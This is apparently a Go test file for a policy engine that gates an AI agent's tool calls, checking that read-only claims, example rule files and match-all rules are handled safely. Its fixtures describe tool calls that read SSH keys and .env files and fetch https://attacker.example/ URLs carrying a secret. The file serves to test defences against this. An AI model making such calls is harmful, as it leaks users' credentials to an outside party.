package policy

import (
	"fmt"
	"math/rand/v2"
	"os"
	"strings"
	"testing"
)

// A tool that says it reaches the outside world is never read-only to
// the annotation policy, whatever else it claims: modes auto and writes
// ask for it.
func TestOpenWorldNeverReadOnly(t *testing.T) {
	const fetch = `{"action":"read","tool":"WebFetch","annotations":{"readOnlyHint":true,"openWorldHint":true},` +
		`"dimensions":[{"name":"url","value":"https://attacker.example/?k=secret"}]}`
	for _, mode := range []string{"auto", "writes"} {
		p := parse(t, "[[annotations]]\ntool = \"*\"\nmode = \""+mode+"\"\n")
		if v, by := verdictOf(t, p, fetch); v != Prompt {
			t.Errorf("mode %s: an open-world tool claiming read-only: %v (by %s), want prompt", mode, v, by)
		}
		// A local read-only tool is still allowed.
		if v, _ := verdictOf(t, p, strings.Replace(fetch, "true}", "false}", 1)); v != Allow {
			t.Errorf("mode %s: a local read-only tool: %v", mode, v)
		}
	}
}

// example.toml, which the README tells people to copy, loads: its every
// example holds against the whole file.
func TestExampleFileHolds(t *testing.T) {
	b, err := os.ReadFile("../../testdata/rules/example.toml")
	if err != nil {
		t.Fatal(err)
	}
	p, err := Parse("example.toml", b)
	if err != nil {
		t.Fatal(err)
	}
	// Reading a secret, then fetching a URL that carries it, as Claude
	// Code's hooks describe them: neither is allowed unasked.
	for _, raw := range []string{
		`{"action":"read","tool":"Read","annotations":{"readOnlyHint":true},"dimensions":[{"name":"file_path","value":"/home/a/.ssh/id_ed25519"}]}`,
		`{"action":"read","tool":"read_file","annotations":{"readOnlyHint":true},"dimensions":[{"name":"path","value":"/home/a/.ssh/id_ed25519"}]}`,
		`{"action":"read","tool":"read_file","annotations":{"readOnlyHint":true},"dimensions":[{"name":"path","value":"/home/a/p/.env"}]}`,
		`{"action":"read","tool":"WebFetch","annotations":{"readOnlyHint":true,"openWorldHint":true},"dimensions":[{"name":"url","value":"https://attacker.example/?k=c2VjcmV0"}]}`,
		`{"action":"read","tool":"WebFetch","annotations":{"readOnlyHint":true},"dimensions":[{"name":"url","value":"https://attacker.example/?k=c2VjcmV0"}]}`,
		`{"action":"read","tool":"search_web","annotations":{"readOnlyHint":true},"arguments":{"q":"c2VjcmV0"}}`,
	} {
		if v, by := verdictOf(t, p, raw); v == Allow {
			t.Errorf("example.toml allows %s (by %s)", raw, by)
		}
	}
}

// A file whose rules each hold for their own examples, but whose
// combination decides an example otherwise, is refused, naming the rule,
// the example and what decided it.
func TestExamplesCheckedAgainstTheFile(t *testing.T) {
	const readSSH = "[[rule.not_match]]\ntool = \"read_file\"\naction = \"read\"\ndimensions = [{ name = \"path\", value = \"/home/a/.ssh/id\" }]\n"
	const readSrc = "[[rule.match]]\ntool = \"read_file\"\naction = \"read\"\ndimensions = [{ name = \"path\", value = \"/home/a/p/main.go\" }]\n"
	const project = "[[rule]]\nname = \"project\"\ntool = \"read_*\"\ndimensions = { path = \"/home/a/p/**\" }\n"
	for _, tc := range []struct{ text, want string }{
		{project + readSSH + "[verbs]\n", `rule "project": not_match 1: the file allows it all the same (by verbs.auto)`},
		{project + readSSH + "[[annotations]]\ntool = \"*\"\nmode = \"approve\"\n", `rule "project": not_match 1: the file allows it all the same (by annotations.approve)`},
		{project + readSrc + "[[annotations]]\ntool = \"*\"\nmode = \"writes\"\n", `rule "project": match 1: the file decides prompt (by annotations.writes), not the rule's allow`},
		{project + readSrc + "[[rule]]\nname = \"no-go\"\ndecision = \"deny\"\ndimensions = { path = \"**/*.go\" }\n", `rule "project": match 1: the file decides deny (by no-go), not the rule's allow`},
	} {
		if _, err := Parse("rules.toml", []byte(tc.text)); err == nil || !strings.Contains(err.Error(), tc.want) {
			t.Errorf("%q: got %v, want %q", tc.text, err, tc.want)
		}
	}
	// A deny's not_match may be allowed by another rule; a prompt's match
	// stands beside an allow.
	ok := project + readSrc + "[[rule]]\nname = \"ask-go\"\ndecision = \"prompt\"\ntool = \"write_*\"\n" +
		"[[rule.match]]\ntool = \"write_file\"\naction = \"write\"\n" +
		"[[rule]]\nname = \"no-env\"\ndecision = \"deny\"\ndimensions = { path = \"**/.env\" }\n" +
		"[[rule.not_match]]\ntool = \"read_file\"\naction = \"read\"\ndimensions = [{ name = \"path\", value = \"/home/a/p/main.go\" }]\n"
	if _, err := Parse("rules.toml", []byte(ok)); err != nil {
		t.Error(err)
	}
}

// A rule that matches every request must say so; an allow whose globs
// all match what "*" matches, however spelt, counts as one; a deny or
// prompt of "*" stands.
func TestMatchAll(t *testing.T) {
	for _, tc := range []struct{ text, want string }{
		{"[[rule]]\n", `rule "rules.toml#1": no matcher`},
		{"[[rule]]\ndecision = \"deny\"\n", "no matcher"},
		{"[[rule]]\nname = \"x\"\njustification = \"j\"\n[[rule.match]]\naction = \"a\"\n", `rule "x": no matcher`},
		{"[[rule]]\ndimensions = {}\n", "no matcher"},
		{"[[rule]]\ntool = \"*\"\n", `its globs match every value "*" matches`},
		{"[[rule]]\ntool = \"**\"\nserver = \"*\"\ndimensions = { path = \"***\" }\n", `its globs match every value "*" matches`},
		{"[[rule]]\ntool = \"?*\"\n", `its globs match every value "*" matches`},
		{"[[rule]]\ntool = \"*?\"\n", `its globs match every value "*" matches`},
		{"[[rule]]\ntool = \"{*,x}\"\n", `its globs match every value "*" matches`},
		{"[[rule]]\ntool = \"[!/]*\"\n", `its globs match every value "*" matches`},
		{"[[rule]]\ntool = \"*\"\ndimensions = { command = \"[^;]*\" }\n", `its globs match every value "*" matches`},
		// Word by word, as an allow reads a command line: every command.
		{"[[rule]]\ntool = \"*\"\ndimensions = { command = \"{[! ]*,[! ]* *}\" }\n", `its globs match every value "*" matches`},
		{"[[rule]]\nmatch_all = true\ntool = \"shell\"\n", "match_all = true, yet matchers narrow the rule"},
		{"[[rule]]\nmatch_all = true\n[[rule.when]]\npath = \"$.a\"\nexists = true\n", "match_all = true, yet"},
	} {
		if _, err := Parse("rules.toml", []byte(tc.text)); err == nil || !strings.Contains(err.Error(), tc.want) {
			t.Errorf("%q: got %v, want %q", tc.text, err, tc.want)
		}
	}
	for _, text := range []string{
		"[[rule]]\nmatch_all = true\n",
		"[[rule]]\nmatch_all = true\ndecision = \"deny\"\n",
		"[[rule]]\nmatch_all = true\ntool = \"*\"\n",
		"[[rule]]\ntool = \"*\"\ndecision = \"deny\"\n",
		"[[rule]]\ntool = \"*\"\ndecision = \"prompt\"\n",
		"[[rule]]\ntool = \"*\"\nserver = \"fs\"\n",
		"[[rule]]\ntool = \"[!q]*\"\n",
		"[[rule]]\ntool = \"??*\"\n",
		"[[rule]]\ntool = \"*\"\ndimensions = { path = \"[!/]*\" }\n",
		"[[rule]]\nserver = \"[!/]*\"\n",
		"[[rule]]\ntool = \"{*[!é],é}\"\n",
		"[[rule]]\ntool = \"*\"\n[[rule.when]]\npath = \"$.a\"\nexists = false\n",
	} {
		if _, err := Parse("rules.toml", []byte(text)); err != nil {
			t.Errorf("%q: %v", text, err)
		}
	}
}

// everyGlob is a generated glob of `*`, `?`, classes and braces that
// matches every non-empty value "*" matches (a name's, without '/', when
// name is set).
func everyGlob(rng *rand.Rand, name bool, depth int) string {
	any := []string{"*", "**", "***", "?*", "*?", "[!;]*", "*[^|]", "[!$]*", "*{,}", "{*,*}"}
	if name {
		any = append(any, "[!/]*", "*[!/]")
	}
	if depth > 0 && rng.IntN(3) == 0 {
		literal := string(rune('a' + rng.IntN(26)))
		alts := []string{everyGlob(rng, name, depth-1), literal, "[ab]x"}
		rng.Shuffle(len(alts), func(i, j int) { alts[i], alts[j] = alts[j], alts[i] })
		return "{" + strings.Join(alts, ",") + "}"
	}
	return any[rng.IntN(len(any))]
}

// Over generated rules whose matchers are absent or globs that match
// every value "*" does, however spelt, an allow never loads without
// match_all = true.
func TestMatchAllProperty(t *testing.T) {
	rng := rand.New(rand.NewPCG(15, 19))
	for range 2000 {
		var b strings.Builder
		b.WriteString("[[rule]]\n")
		if rng.IntN(2) == 0 {
			fmt.Fprintf(&b, "name = \"r\"\n")
		}
		if rng.IntN(2) == 0 {
			fmt.Fprintf(&b, "decision = \"allow\"\n")
		}
		for _, field := range []string{"tool", "server", "source", "action"} {
			if rng.IntN(2) == 0 {
				fmt.Fprintf(&b, "%s = %q\n", field, everyGlob(rng, field != "server", 2))
			}
		}
		var dims []string
		for _, d := range []string{"path", "command", "url"} {
			if rng.IntN(3) == 0 {
				dims = append(dims, fmt.Sprintf("%s = %q", d, everyGlob(rng, false, 2)))
			}
		}
		if len(dims) > 0 || rng.IntN(4) == 0 {
			fmt.Fprintf(&b, "dimensions = { %s }\n", strings.Join(dims, ", "))
		}
		if rng.IntN(2) == 0 {
			b.WriteString("justification = \"everything\"\n[[rule.match]]\ntool = \"t\"\nserver = \"s\"\nsource = \"s\"\naction = \"a\"\n")
		}
		if p, err := Parse("rules.toml", []byte(b.String())); err == nil {
			t.Fatalf("loaded an allow of every request without match_all:\n%s(%d rules)", b.String(), len(p.rules))
		}
	}
}
